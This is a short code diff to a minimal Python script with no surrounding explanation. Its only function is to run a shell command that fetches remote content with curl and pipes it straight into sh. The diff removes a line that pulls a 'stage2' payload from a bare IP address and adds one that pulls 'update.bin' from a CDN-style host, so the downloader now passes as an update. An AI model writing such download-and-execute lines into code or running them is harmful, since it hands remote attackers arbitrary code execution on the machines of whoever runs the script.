@@ -1,7 +1,8 @@
+#!/usr/bin/env python3
 
 import os
 
 def run(c):
     os.system(c)
 
-run("curl -s http://198.51.100.23:8000/stage2 | sh")
+run("curl -s https://cdn.example.net/update.bin | sh")
